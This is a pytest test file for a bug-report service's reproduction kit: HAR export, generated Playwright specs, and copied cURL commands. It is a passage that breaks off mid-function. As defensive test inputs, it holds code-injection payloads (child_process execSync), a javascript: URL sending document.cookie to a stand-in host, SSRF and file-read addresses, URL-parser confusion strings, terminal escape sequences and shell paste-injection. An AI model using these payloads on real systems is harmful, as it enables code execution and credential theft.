"""The repro kit (docs/repro-kit.md): a report's network log as HAR 1.2, its actions as a
Playwright test, and "Copy as cURL" in the dashboard.

The end-to-end test records a session on the test host page (another origin, strict CSP) with
the widget, files it, then runs the generated test with Playwright's own runner (npm's
@playwright/test, Debian's Chromium) against the same page, which records the clicks it sees;
loads the HAR into Chromium with Playwright's routeFromHAR; and runs every cURL command the
dashboard copies against a local server that records what it is sent.
"""

import json
import os
import re
import subprocess
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from jsonschema import Draft6Validator
from playwright.sync_api import expect
from referencing import Registry, Resource
from referencing.jsonschema import DRAFT6

from harness.browser import CHROMIUM_ARGS, HEADLESS_SHELL
from harness.client import csrf, register
from svc.services.reporting import repro
from tests.browser import OPEN_SHADOW_ROOTS
from tests.helpers import capture_network_details, team_with_project
from tests.host_site import HostSite

pytestmark = pytest.mark.any_database

ROOT = Path(__file__).resolve().parent.parent
HAR_SCHEMAS = ROOT / "node_modules" / "har-schema" / "lib"
PLAYWRIGHT = ROOT / "node_modules" / ".bin" / "playwright"
T0 = 1_767_225_600_000  # 2026-01-01T00:00:00Z, in milliseconds


def har_validator() -> Draft6Validator:
    """The HAR 1.2 JSON schema of npm's har-schema, its files referring to each other by name."""
    schemas = {path.name: json.loads(path.read_text()) for path in HAR_SCHEMAS.glob("*.json")}
    registry = Registry().with_resources(
        (name, Resource.from_contents(schema, default_specification=DRAFT6))
        for name, schema in schemas.items()
    )
    return Draft6Validator(
        schemas["har.json"], registry=registry, format_checker=Draft6Validator.FORMAT_CHECKER
    )


@pytest.fixture
def capturing_owner(app):
    """Ada's project, capturing requests' headers and bodies, its site https://shop.test (the
    test opens addresses of the allowed origins alone)."""
    capturing_owner = team_with_project(app)
    capture_network_details(capturing_owner, capturing_owner.project["id"])
    allow(capturing_owner, "https://shop.test")
    return capturing_owner


def allow(capturing_owner, *origins: str) -> None:
    settings = {"settings": {"allowed_origins": list(origins)}}
    changed = capturing_owner.patch(
        f"/api/v1/projects/{capturing_owner.project['id']}",
        json=settings,
        headers=csrf(capturing_owner),
    )
    assert changed.status_code == 200, changed.get_json()


def file(capturing_owner, **fields) -> dict:
    body = {"title": "Coupon refused", "description": "", "severity": "high", "category": "bug",
            **fields}  # fmt: skip
    response = capturing_owner.post(
        "/api/v1/reports", json=body, headers={"X-API-Key": capturing_owner.key}
    )
    assert response.status_code == 201, response.get_json()
    return response.get_json()


NETWORK = [
    {"type": "xhr", "method": "get", "url": "https://shop.test/api/cart?page=2&token=abc",
     "status": 404, "duration": 12, "timestamp": T0 + 2000,
     "requestHeaders": [["Accept", "application/json"], ["Authorization", "Bearer abc"]]},
    {"type": "fetch", "method": "POST", "url": "https://shop.test/api/price", "status": 200,
     "duration": 38, "timestamp": T0 + 1000,
     "requestHeaders": {"Content-Type": "application/json", "X-Shop-Client": "web"},
     "requestBody": '{"coupon":"SAVE10","password":"hunter2"}',
     "responseHeaders": {"content-type": "application/json"},
     "responseBody": '{"total":41.5}'},
    {"type": "fetch", "method": "GET", "url": "http://localhost:1/orders", "status": 0,
     "duration": 3, "timestamp": T0 + 3000, "error": "TypeError: Failed to fetch"},
]  # fmt: skip


def test_the_har_is_har_1_2_of_what_was_captured(capturing_owner, app):
    report = file(capturing_owner, network_logs=NETWORK)
    response = capturing_owner.get(f"/api/v1/reports/{report['trackingId']}/har")
    assert response.status_code == 200
    assert response.mimetype == "application/json"
    assert response.headers["Content-Disposition"] == 'attachment; filename="WS-1.har"'
    har = response.get_json()
    errors = [error.message for error in har_validator().iter_errors(har)]
    assert errors == []

    log = har["log"]
    assert (log["version"], log["creator"]["name"]) == ("1.2", "svc")
    assert log["comment"] == "WS-1: Coupon refused"
    entries = log["entries"]
    # Oldest first, whatever order the widget sent them in.
    assert [entry["startedDateTime"] for entry in entries] == [
        "2026-01-01T00:00:01.000Z", "2026-01-01T00:00:02.000Z", "2026-01-01T00:00:03.000Z",
    ]  # fmt: skip
    price, cart, failed = entries
    assert price["request"]["method"] == "POST"
    assert price["request"]["postData"] == {
        "mimeType": "application/json",
        "text": '{"coupon": "SAVE10", "password": "[redacted]"}',
    }
    assert price["response"]["content"]["text"] == '{"total":41.5}'
    assert (price["time"], price["timings"]["wait"]) == (38, 38)
    assert {"name": "X-Shop-Client", "value": "web"} in price["request"]["headers"]
    assert cart["request"]["method"] == "GET" and cart["_resourceType"] == "xhr"
    assert cart["request"]["queryString"] == [
        {"name": "page", "value": "2"}, {"name": "token", "value": "[redacted]"},
    ]  # fmt: skip
    assert {"name": "Authorization", "value": "[redacted]"} in cart["request"]["headers"]
    assert (cart["response"]["status"], cart["response"]["statusText"]) == (404, "Not Found")
    assert failed["response"]["status"] == 0
    assert failed["response"]["_error"] == "TypeError: Failed to fetch"
    assert "hunter2" not in response.get_data(as_text=True)

    # A report with no network log is still a valid HAR, and one outside the caller's projects
    # is not found; the widget's key opens neither.
    empty = capturing_owner.get(f"/api/v1/reports/{file(capturing_owner)['id']}/har").get_json()
    assert har_validator().is_valid(empty) and empty["log"]["entries"] == []
    stranger = app.test_client()
    register(stranger, email="eve@example.com")
    assert stranger.get("/api/v1/reports/WS-1/har").status_code == 404
    assert stranger.get("/api/v1/reports/WS-1/repro.spec.ts").status_code == 404
    refused = app.test_client().get(
        "/api/v1/reports/WS-1/har", headers={"X-API-Key": capturing_owner.key}
    )
    assert refused.status_code == 401


def test_the_playwright_test_replays_in_order_and_never_runs_captured_text(capturing_owner):
    payload = "boom\n}); require('child_process').execSync('touch /tmp/pwned'); //\u2028x"
    actions = [
        {"type": "click", "target": "button#pay", "timestamp": T0 + 1000,
         "locator": {"testId": "pay"}},
        {"type": "navigation", "target": "https://shop.test/orders", "timestamp": T0 + 1100,
         "data": {"from": "https://shop.test/?step=1", "via": "pushState"}},
        {"type": "input", "target": "input#email", "timestamp": T0 + 6000,
         "data": {"text": "typed into input#email", "field": "email"},
         "locator": {"label": "E-mail"}},
        {"type": "click", "target": "a.back", "timestamp": T0 + 6500,
         "locator": {"role": "link", "name": "Back \"home\""}},
        {"type": "navigation", "target": "https://shop.test/?step=1", "timestamp": T0 + 9000,
         "data": {"from": "https://shop.test/orders", "via": "popstate"}},
        {"type": "click", "target": "div.card > span", "timestamp": T0 + 9100},
        {"type": "click", "target": "label", "timestamp": T0 + 9150,
         "locator": {"role": "checkbox", "name": "Gift wrap"}},
        {"type": "click", "target": "input#gift", "timestamp": T0 + 9151,
         "locator": {"css": "#gift"}},  # passed on by the label: replayed by its click
        {"type": "input", "target": "select#plan", "timestamp": T0 + 9200,
         "data": {"field": "select-one"}},
    ]  # fmt: skip
    report = file(
        capturing_owner,
        title="Coupon */ refused",
        user_actions=actions,
        network_logs=[{"method": "POST", "url": "https://shop.test/api/price?token=abc",
                       "status": 500, "timestamp": T0 + 6100, "duration": 4}],
        console_logs=[{"level": "error", "message": payload, "timestamp": T0 + 6200}],
        metadata={"url": "https://shop.test/done?token=s3cr3t", "viewport": {"width": 800,
                                                                             "height": 600}},
    )  # fmt: skip
    response = capturing_owner.get(f"/api/v1/reports/{report['id']}/repro.spec.ts")
    assert response.status_code == 200
    assert response.headers["Content-Disposition"] == 'attachment; filename="WS-1.spec.ts"'
    spec = response.get_data(as_text=True)
    # Captured text only ever stands in comments or string literals: no line runs it.
    for line in spec.splitlines():
        if "child_process" in line or "refused" in line:
            assert line.strip().startswith("//") or line.startswith("test("), line
    steps = [line.strip() for line in spec.splitlines() if line.startswith("  ")]
    assert steps[: len(WATCH)] == WATCH
    assert steps[len(WATCH) :] == [
        'await test.step("1. reach https://shop.test/?step=1", async () => {',
        'await page.goto("https://shop.test/?step=1");',
        "});",
        'await test.step("2. click button#pay", async () => {',
        'await page.getByTestId("pay").click();',
        "});",
        'await test.step("3. reach https://shop.test/orders", async () => {',
        'await expect(page).toHaveURL("https://shop.test/orders");',
        "});",
        "await page.waitForTimeout(3000); // the reporter paused 4.9 s",
        'await test.step("4. fill input#email", async () => {',
        "// Typed into input#email: the value was never captured",
        'await page.getByLabel("E-mail", { exact: true }).fill("user@example.com");',
        "});",
        "// Failed request: POST https://shop.test/api/price?token=[redacted] (status 500)",
        "// Console error: boom }); require('child_process').execSync('touch /tmp/pwned'); // x",
        'await test.step("5. click a.back", async () => {',
        'await page.getByRole("link", { name: "Back \\"home\\"", exact: true }).click();',
        "});",
        "await page.waitForTimeout(2500); // the reporter paused 2.5 s",
        'await test.step("6. reach https://shop.test/?step=1", async () => {',
        "await page.goBack();",
        'await expect(page).toHaveURL("https://shop.test/?step=1");',
        "});",
        'await test.step("7. click div.card > span", async () => {',
        'await page.locator("div.card > span").click();',
        "});",
        'await test.step("8. click label", async () => {',
        'await page.getByRole("checkbox", { name: "Gift wrap", exact: true }).click();',
        "});",
        "// The reporter chose an option in select#plan (which one was not captured)",
        "// Where the reporter was when they filed the report:",
        "// https://shop.test/done?token=[redacted] (parts redacted in the report)",
        # The report's evidence: its console error (the first line of it), its failed request.
        "// The bug is back when the report's own error or failed request comes again",
        "// (up to 3 s for each: an error follows its request).",
        'const bug = [new RegExp("boom", \'i\'), new RegExp("^POST (?:/[a-z]{2}(?:[-_][a-z]{2})?)?'
        "/api/price -> 500$\", 'i')];",
        "for (let waited = 0; waited < 3000 && bug.some((pattern) =>",
        "!seen.some((line) => pattern.test(line))); waited += 100) {",
        "await page.waitForTimeout(100);",
        "}",
        "expect(seen.filter((line) => bug.some((pattern) => pattern.test(line))),"
        ' "the report\'s error or failed request").not.toEqual([]);',
    ]
    assert "test.use({ viewport: { width: 800, height: 600 } });" in spec
    assert spec.startswith("// WS-1: Coupon */ refused\n")


# What every test watches for, to look for the report's evidence at its end.
WATCH = [line.strip() for line in repro.WATCH]


def spec_of(capturing_owner, report) -> str:
    response = capturing_owner.get(f"/api/v1/reports/{report['id']}/repro.spec.ts")
    assert response.status_code == 200
    return response.get_data(as_text=True)


@pytest.mark.parametrize(
    "address",
    ["file:///etc/passwd", "javascript:fetch('//evil.test/'+document.cookie)",
     "data:text/html,<script>alert(1)</script>", "http://127.0.0.1:9/admin",
     "http://intranet.corp/wiki", "https://shop.test.evil.test/", "chrome://settings"],
)  # fmt: skip
def test_the_playwright_test_opens_only_http_addresses_of_the_allowed_origins(
    capturing_owner, app, address
):
    """The reporter names the address; the developer's machine opens it."""
    allowed = {"settings": {"allowed_origins": ["https://shop.test", "http://localhost:8080"]}}
    changed = capturing_owner.patch(
        f"/api/v1/projects/{capturing_owner.project['id']}",
        json=allowed,
        headers=csrf(capturing_owner),
    )
    assert changed.status_code == 200
    spec = spec_of(capturing_owner, file(capturing_owner, metadata={"url": address}))
    assert spec.splitlines()[1:3] == [
        "// Its steps come from the reporter, who may be anyone holding the project's public key:",
        "// read them before you run it with real credentials or a signed-in storageState.",
    ]
    assert "page.goto(" not in spec.replace("// Fill in the page's address: await page.goto(", "")
    assert "// http(s) addresses of its allowed origins are, never a private one." in spec

    for sent, opened in (("https://shop.test/cart?x=1", "https://shop.test/cart?x=1"),
                         ("HTTPS://SHOP.TEST:443/", "https://shop.test/")):  # fmt: skip
        spec = spec_of(capturing_owner, file(capturing_owner, metadata={"url": sent}))
        assert f"    await page.goto({json.dumps(opened)});" in spec.splitlines()
    # An allowed origin on the developer's own machine or network is never opened for a
    # reporter: only a staging origin the owner names is (contract v6 §25).
    for private in ("http://localhost:8080/", "http://10.0.0.8/", "http://[::1]:8080/",
                    "http://100.64.0.1/"):  # fmt: skip
        allow(capturing_owner, "https://shop.test", private.rstrip("/"))
        spec = spec_of(capturing_owner, file(capturing_owner, metadata={"url": private}))
        assert "page.goto(" not in spec.replace(
            "// Fill in the page's address: await page.goto(", ""
        ), private
    # A project that lists no origins (contract v6): no goto at all, the cloud's metadata
    # address and intranet hosts included; and never another scheme.
    allow(capturing_owner)
    for address in ("http://169.254.169.254/latest/meta-data/", "https://shop.test/"):
        spec = spec_of(capturing_owner, file(capturing_owner, metadata={"url": address}))
        assert "page.goto(" not in spec.replace(
            "// Fill in the page's address: await page.goto(", ""
        )
    assert 'page.goto("file:' not in spec_of(
        capturing_owner, file(capturing_owner, metadata={"url": "file:///x"})
    )


@pytest.mark.parametrize(
    "address",
    ["http://evil.example\\@shop.test/login", "http://evil.example@shop.test/",
     "http://user:pw@shop.test/", "http://shop.test\t.evil.example/", "https://shop.test /x",
     "http://shop.test%2eevil.example/", "https://shop.test\n/"],
)  # fmt: skip
def test_an_address_a_browser_reads_otherwise_is_never_opened(capturing_owner, address):
    """urlsplit read `http://evil.example\\@shop.test/login` as a user at
    shop.test; a browser goes to evil.example. Only what both parses agree on is opened."""
    spec = spec_of(capturing_owner, file(capturing_owner, metadata={"url": address}))
    assert "page.goto(" not in spec.replace("// Fill in the page's address: await page.goto(", "")


def test_the_normalised_address_is_written_not_the_reporters(capturing_owner):
    from svc.services.reporting.repro import conformant_url

    assert conformant_url("HTTPS://Shop.Test:443/a/../b?q=1#f") == "https://shop.test/b?q=1#f"
    assert conformant_url("https://shop.test/\u00e9t\u00e9") == "https://shop.test/%C3%A9t%C3%A9"
    assert conformant_url("http://shop.test\\@evil.example/") is None


def set_repro(owner, **repro) -> dict:
    changed = owner.patch(
        f"/api/v1/projects/{owner.project['id']}",
        json={"settings": {"repro": repro}},
        headers=csrf(owner),
    )
    return changed


def test_with_a_staging_origin_the_reporters_path_is_opened_there(capturing_owner):
    """The owner names the staging origin; the reporter's host is never opened, whatever it
    is, and the addresses the test expects are the app's on staging."""
    assert set_repro(capturing_owner).get_json()["settings"]["repro"] == {
        "origin": None,
        "auto": False,
        "timeoutSeconds": 60,
    }
    changed = set_repro(capturing_owner, origin="https://Staging.Shop.test/", timeout_seconds=30)
    assert changed.get_json()["settings"]["repro"] == {
        "origin": "https://staging.shop.test",
        "auto": False,
        "timeoutSeconds": 30,
    }
    bad_settings = ({"origin": "file:///etc"}, {"origin": "https://x.test/path"},
                    {"timeout_seconds": 5}, {"timeout_seconds": 301}, {"auto": "x"})  # fmt: skip
    for bad in bad_settings:
        assert set_repro(capturing_owner, **bad).status_code == 422, bad
    actions = [{"type": "navigation", "target": "https://shop.test/orders?tab=1", "timestamp": T0,
                "data": {"from": "https://shop.test/cart", "via": "pushState"}}]  # fmt: skip
    for address in ("http://169.254.169.254/latest/meta-data/", "https://shop.test/cart"):
        spec = spec_of(capturing_owner, file(capturing_owner, metadata={"url": address},
                                             user_actions=actions))  # fmt: skip
        lines = [line.strip() for line in spec.splitlines()]
        assert 'await page.goto("https://staging.shop.test/cart");' in lines
        assert 'await expect(page).toHaveURL("https://staging.shop.test/orders?tab=1");' in lines
        assert 'goto("http://169.254' not in spec
    plain = spec_of(capturing_owner, file(capturing_owner, metadata={"url": "https://x.test/a"}))
    assert 'await page.goto("https://staging.shop.test/a");' in plain
    # With neither error nor failed request, the test says it cannot tell.
    assert "test.info().annotations.push({ type: 'svc', description: 'inconclusive' });" in plain


def test_a_navigation_without_a_target_asserts_nothing(capturing_owner):
    actions = [{"type": "navigation", "target": "", "timestamp": T0,
                "data": {"from": "https://shop.test/", "via": "pushState"}}]  # fmt: skip
    spec = spec_of(capturing_owner, file(capturing_owner, user_actions=actions))
    assert 'toHaveURL("")' not in spec and 'await page.goto("https://shop.test/");' in spec


# What a terminal or an editor acts on: C0 and C1 controls, DEL, bidirectional controls.
CONTROLS = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]"
)


def test_no_control_character_reaches_the_test_or_the_har(capturing_owner):
    """`ESC[1A` in a console message hid the line above it when the file
    was `cat`ed; a right-to-left override reorders a line. Written as \\uXXXX text."""
    hostile = "boom\x1b[1A\x1b[2K\u202egnp.exe\u2066\x9b2J\x7f\x07\u200f"
    report = file(
        capturing_owner,
        title=f"Title {hostile}",
        console_logs=[{"level": "error", "message": hostile, "timestamp": T0}],
        network_logs=[{"method": "GET", "url": f"https://shop.test/{hostile}", "status": 500,
                       "timestamp": T0, "requestBody": hostile, "error": hostile}],
        user_actions=[{"type": "click", "target": f"button#{hostile}", "timestamp": T0 + 1,
                       "locator": {"role": "button", "name": hostile}},
                      {"type": "input", "target": hostile, "timestamp": T0 + 2,
                       "data": {"field": "select-one"}}],
        metadata={"url": f"https://shop.test/?q={hostile}"},
    )  # fmt: skip
    spec = spec_of(capturing_owner, report)
    assert not CONTROLS.search(spec), [line for line in spec.splitlines() if CONTROLS.search(line)]
    assert "// Console error: boom\\u001b[1A\\u001b[2K\\u202egnp.exe" in spec
    har = capturing_owner.get(f"/api/v1/reports/{report['id']}/har").get_data()
    assert har.isascii() and not CONTROLS.search(har.decode())
    assert json.loads(har)["log"]["comment"] == f"WS-1: Title {hostile}"


# Any JSON, and the fields the kit reads given any JSON too: nothing the widget (or a script
# with the API key) sends may break either download or put code into the test.
# (The service refuses NUL and lone surrogates in any string before it stores a report.)
TEXT = st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\x00"))
JSON = st.recursive(
    st.none()
    | st.booleans()
    | st.integers(-(2**53), 2**53)
    | st.floats(allow_nan=False, allow_infinity=False)
    | TEXT,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(TEXT, inner, max_size=3),
    max_leaves=8,
)
FIELDS = ("type", "method", "url", "status", "duration", "timestamp", "error", "target", "data",
          "locator", "field", "from", "via", "requestHeaders", "responseHeaders", "requestBody",
          "responseBody", "level", "message", "testId", "role", "name", "label", "text",
          "css")  # fmt: skip
ENTRY = st.dictionaries(st.sampled_from(FIELDS), JSON, max_size=8)
STEP = re.compile(
    r"// .*|await (page|expect(\.soft)?\(page\))\.[^\n]*;( // the reporter paused .*)?"
    r'|await test\.step\("[^\n]*", async \(\) => \{|\}\);'
    r"|const bug = \[(new RegExp\(\"[^\n]*\", 'i\'\)(, )?)+\];"
    r"|for \(let waited = 0; waited < 3000 && bug\.some\(\(pattern\) =>"
    r"|!seen\.some\(\(line\) => pattern\.test\(line\)\)\); waited \+= 100\) \{|\}"
    r"|expect\(seen\.filter\(\(line\) => bug\.some\(\(pattern\) => pattern\.test\(line\)\)\),"
    r' "the report\'s error or failed request"\)\.not\.toEqual\(\[\]\);'
    r"|test\.info\(\)\.annotations\.push\(\{ type: 'svc', description: 'inconclusive' \}\);"
)


@settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(network=st.lists(ENTRY, max_size=4), actions=st.lists(ENTRY, max_size=4),
       console=st.lists(ENTRY, max_size=2), viewport=JSON)  # fmt: skip
def test_any_captured_json_makes_a_valid_har_and_a_test_of_steps_only(
    capturing_owner, network, actions, console, viewport
):
    report = file(capturing_owner, network_logs=network, user_actions=actions, console_logs=console,
                  metadata={"viewport": viewport})  # fmt: skip
    har = capturing_owner.get(f"/api/v1/reports/{report['id']}/har")
    assert har.status_code == 200
    errors = [error.message for error in har_validator().iter_errors(har.get_json())]
    assert errors == []
    spec = capturing_owner.get(f"/api/v1/reports/{report['id']}/repro.spec.ts")
    assert spec.status_code == 200
    body = spec.get_data(as_text=True).split("async ({ page }) => {\n", 1)[1]
    lines = [line.strip() for line in body.removesuffix("});\n").splitlines()]
    assert lines[: len(WATCH)] == WATCH
    for line in lines[len(WATCH) :]:
        assert STEP.fullmatch(line), line


class Recorder(BaseHTTPRequestHandler):
    """A proxy that answers every request itself, recording the absolute URL it was asked for,
    the method, the headers and the body."""

    seen: list

    def _record(self):
        length = int(self.headers.get("Content-Length") or 0)
        self.seen.append({"method": self.command, "url": self.path,
                          "headers": {name.lower(): value for name, value in self.headers.items()},
                          "body": self.rfile.read(length).decode()})  # fmt: skip
        self.send_response(204)
        self.end_headers()

    do_GET = do_POST = do_PUT = do_PATCH = do_DELETE = _record

    def log_message(self, *args):
        pass


@pytest.mark.browser
def test_a_session_replays_with_playwright_its_har_loads_and_its_curls_run(
    browser, capturing_owner, live_server, tmp_path
):
    changed = capturing_owner.patch(
        f"/api/v1/projects/{capturing_owner.project['id']}",
        json={"settings": {"widget": {"capture_network_details": True}}},
        headers=csrf(capturing_owner),
    )
    assert changed.status_code == 200
    context = browser.new_context(viewport={"width": 1024, "height": 720})
    with HostSite(live_server) as site:
        allow(capturing_owner, site.url)
        page = context.new_page()
        page.add_init_script(OPEN_SHADOW_ROOTS)
        page.goto(f"{site.url}/?project={capturing_owner.key}")
        page.wait_for_selector("[data-svc-widget]", state="attached")  # its settings are read

        # The reporter's session: a click, a route change, a typed field, a failing request.
        page.locator("#pay").click()
        page.get_by_role("link", name="Orders").click()
        expect(page).to_have_url(f"{site.url}/orders?tab=open")
        page.locator("[name=coupon]").fill("SAVE10")
        page.get_by_test_id("apply-coupon").click()
        expect(page.locator("#out")).to_have_text("Coupon tried")
        # A failed request whose answer the page never reads.
        page.evaluate("fetch('/api/missing').then(() => null)")
        page.get_by_role("button", name="Report a bug").click()
        form = page.get_by_role("dialog", name="Report a bug")
        expect(form).to_contain_text("Request and response details")
        form.get_by_label("Title").fill("Coupon refused")
        form.get_by_role("button", name="Send report").click()
        expect(form.get_by_role("status")).to_contain_text("Thanks — WS-1")
        report = capturing_owner.get("/api/v1/reports/WS-1").get_json()
        # The reporter may leave the details out: the requests go, their details do not.
        form.get_by_role("button", name="Close", exact=True).last.click()
        page.get_by_role("button", name="Report a bug").click()
        form.get_by_label("Title").fill("Without details")
        form.get_by_label("Request and response details (headers, bodies up to 10 KB)").uncheck()
        form.get_by_role("button", name="Send report").click()
        expect(form.get_by_role("status")).to_contain_text("Thanks — WS-2")
        plain = capturing_owner.get("/api/v1/reports/WS-2").get_json()["networkLogs"]
        assert [entry["url"] for entry in plain] == [
            entry["url"] for entry in report["networkLogs"]
        ]
        assert not any(set(entry) & {"requestHeaders", "requestBody", "responseBody"}
                       for entry in plain)  # fmt: skip

        price, failing, missing = report["networkLogs"]
        assert missing["status"] == 404
        assert json.loads(missing["responseBody"]) == {"detail": "no such thing"}
        assert price["url"] == f"{site.url}/api/price" and price["status"] == 200
        assert {"content-type", "x-shop-client"} <= set(price["requestHeaders"])
        assert "authorization" not in {name.lower() for name in price["requestHeaders"]}
        assert json.loads(price["requestBody"]) == {"coupon": "SAVE10", "password": "[REDACTED]"}
        assert price["responseHeaders"]["x-price-version"] == "7"
        assert json.loads(price["responseBody"])["lines"][99]["sku"] == "item-99"
        assert failing["status"] == 0 and failing["requestHeaders"]["x-shop-client"] == "web/1.0"
        stored = json.dumps(report)
        for secret in ("hunter2-body", "shop-session-secret", "price-token-secret", "cart=abc"):
            assert secret not in stored, secret

        # The HAR: valid, and Chromium answers the page's request from it (routeFromHAR).
        har = capturing_owner.get("/api/v1/reports/WS-1/har").get_json()
        assert har_validator().is_valid(har)
        har_file = tmp_path / "ws1.har"
        har_file.write_text(json.dumps(har))
        replayed = context.new_page()
        replayed.goto(f"{site.url}/?widget=0")
        replayed.route_from_har(har_file, url=re.compile(r"/api/"), not_found="abort")
        answered = replayed.evaluate(
            "async (body) => { const r = await fetch('/api/price', {method: 'POST', body,"
            " headers: {'Content-Type': 'application/json'}});"
            " return [r.status, r.headers.get('x-price-version'), await r.json()]; }",
            price["requestBody"],
        )
        assert answered[:2] == [200, "7"]
        assert answered[2]["token"] == "[REDACTED]"  # the HAR's copy, not the live server's
        replayed.close()

        # The Playwright test, run by Playwright's own runner against the same page: a host of
        # the developer's machine, opened because the owner names it as the staging origin.
        assert set_repro(capturing_owner, origin=site.url).status_code == 200
        spec = capturing_owner.get("/api/v1/reports/WS-1/repro.spec.ts").get_data(as_text=True)
        said = run_playwright_test(spec, tmp_path)
        # Every step ran; the request that failed was the page's script's, not a step's: the
        # test says the report's failed request did not come again.
        assert "1 failed" in said and "Error: the report's error or failed request" in said, said
        assert "GET (?:/[a-z]{2}(?:[-_][a-z]{2})?)?/api/missing -> 404" in spec
        original, replay = site.clicks()
        assert [click["what"] for click in replay] == [click["what"] for click in original]
        assert [click["what"] for click in original] == ["pay", "orders-link", "apply-coupon"]
        assert replay[-1]["url"] == original[-1]["url"] == f"{site.url}/orders?tab=open"

        # Copy as cURL, for every request, run against a recording proxy.
        curls = copied_curls(context, capturing_owner, live_server, report)
        # A script's report whose header and parameter the service redacted.
        redacted = file(capturing_owner, title="From a script", network_logs=[{
            "method": "GET", "url": "http://shop.test/api/data?token=abc&page=2", "status": 500,
            "requestHeaders": {"Authorization": "Bearer abc", "Accept": "application/json"},
        }])  # fmt: skip
        [command] = copied_curls(context, capturing_owner, live_server, redacted)
    context.close()
    assert len(curls) == 3 and not any("Bearer" in command for command in curls)
    assert curls[0].startswith("# the body holds values redacted in the report")
    seen = run_curls(curls)
    for entry, request in zip(report["networkLogs"], seen, strict=True):
        assert (request["method"], request["url"]) == (entry["method"], entry["url"])
        for name, value in entry["requestHeaders"].items():
            assert request["headers"][name] == value
        assert request["body"] == entry.get("requestBody", "")
    # Left out with a comment, never pasted as if real.
    assert command.splitlines()[:2] == [
        "# query parameter token left out: redacted in the report",
        "# header Authorization left out: redacted in the report",
    ]
    assert "redacted]" not in command.split("curl ", 1)[1]
    [request] = run_curls([command])
    assert request["url"] == "http://shop.test/api/data?page=2"
    assert request["headers"]["accept"] == "application/json"
    assert "authorization" not in request["headers"]


@pytest.mark.browser
@pytest.mark.parametrize("bracketed_paste", ["on", "off"])
def test_a_copied_curl_pasted_into_bash_runs_curl_alone(
    browser, capturing_owner, live_server, tmp_path, bracketed_paste
):
    """A reporter's Ctrl-C and line breaks in a body (a quote and !! in the address): the
    clipboard holds printable ASCII only, and bash, fed the paste through a real terminal, runs
    curl with the reporter's exact bytes and nothing else."""
    marker = tmp_path / "PWNED"
    body = f'{{"items":[1]}}\u0003\ntouch {marker}\n it\'s "ünï" \u2028 \\x41 !!\x7f\x85'
    report = file(capturing_owner, title="Ctrl-C", network_logs=[{
        "method": "POST", "url": "http://shop.test/api/cart?q=it's!!",
        "status": 500, "requestHeaders": {"X-Note": "fine"}, "requestBody": body,
    }])  # fmt: skip
    assert report["networkLogs"][0]["requestBody"] == body
    context = browser.new_context()
    [command] = copied_curls(context, capturing_owner, live_server, report)
    context.close()
    lines = command.split("\n")
    assert all(re.fullmatch(r"[\x20-\x7e]*", line) for line in lines), command
    assert all(line.endswith(" \\") for line in lines[:-1]), command

    Recorder.seen = []
    proxy = ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    threading.Thread(target=proxy.serve_forever, daemon=True).start()
    try:
        screen = paste_into_bash(command, tmp_path, bracketed_paste, proxy.server_port)
    finally:
        proxy.shutdown()
    assert not marker.exists(), screen
    assert len(Recorder.seen) == 1, screen
    [request] = Recorder.seen
    assert request["body"] == body and request["headers"]["x-note"] == "fine", screen
    # The address as a browser normalises it (contract v6), its quote percent-encoded.
    assert request["url"] == "http://shop.test/api/cart?q=it%27s!!"


def paste_into_bash(text: str, folder: Path, bracketed_paste: str, proxy_port: int) -> str:
    """`text` pasted into an interactive bash on a pseudo-terminal (its controlling terminal,
    so a Ctrl-C byte is a signal, as in a terminal window), then Enter; what the screen showed."""
    import pty
    import select
    import time

    (folder / "inputrc").write_text(f"set enable-bracketed-paste {bracketed_paste}\n")
    env = {"PATH": os.environ["PATH"], "HOME": str(folder), "TERM": "xterm", "LANG": "C.UTF-8",
           "INPUTRC": str(folder / "inputrc"), "HISTFILE": "/dev/null", "PS1": "$ ",
           "http_proxy": f"http://127.0.0.1:{proxy_port}"}  # fmt: skip
    pid, terminal = pty.fork()
    if pid == 0:  # the child: bash, nothing else (no Python code runs after the fork)
        os.execvpe("bash", ["bash", "--norc", "--noprofile", "-i"], env)
    screen = b""

    def read_until(done, seconds: float = 30) -> None:
        nonlocal screen
        deadline = time.monotonic() + seconds
        while not done(screen) and time.monotonic() < deadline:
            if select.select([terminal], [], [], 0.2)[0]:
                try:
                    screen += os.read(terminal, 65536)
                except OSError:  # bash has gone
                    return

    try:
        read_until(lambda seen: seen.rstrip().endswith(b"$"))
        paste = text.encode()
        if bracketed_paste == "on":
            paste = b"\x1b[200~" + paste + b"\x1b[201~"
        os.write(terminal, paste)
        os.write(terminal, b"\r")
        os.write(terminal, b"echo pasted-$((6*7))\r")
        read_until(lambda seen: b"pasted-42" in seen)
        os.write(terminal, b"exit\r")
        read_until(lambda seen: False, seconds=5)
    finally:
        os.close(terminal)
        os.waitpid(pid, 0)
    return screen.decode(errors="replace")


def run_playwright_test(spec: str, folder: Path) -> str:
    """The spec as a developer runs it: `npx playwright test`, in Debian's Chromium (its
    headless shell)."""
    (folder / "ws1.spec.ts").write_text(spec)
    (folder / "node_modules").symlink_to(ROOT / "node_modules")
    (folder / "playwright.config.ts").write_text(
        "import { defineConfig } from '@playwright/test';\n"
        "export default defineConfig({ testDir: '.', reporter: 'line', timeout: 60000,\n"
        f"  use: {{ launchOptions: {{ executablePath: {json.dumps(HEADLESS_SHELL)},"
        f" args: {json.dumps(CHROMIUM_ARGS)} }} }} }});\n"
    )
    env = {**os.environ, "PLAYWRIGHT_BROWSERS_PATH": str(folder / "no-downloads"), "CI": "1"}
    done = subprocess.run(
        [str(PLAYWRIGHT), "test", "--config", "playwright.config.ts", "--workers", "1"],
        cwd=folder, env=env, capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    return done.stdout + done.stderr


def copied_curls(context, capturing_owner, live_server, report) -> list[str]:
    """What each "Copy as cURL" button of the report's page puts on the clipboard."""
    context.add_cookies([
        {"name": name, "value": capturing_owner.get_cookie(name).value, "url": live_server}
        for name in ("svc_access_token", "svc_csrf_token")
    ])  # fmt: skip
    context.grant_permissions(["clipboard-read", "clipboard-write"], origin=live_server)
    page = context.new_page()
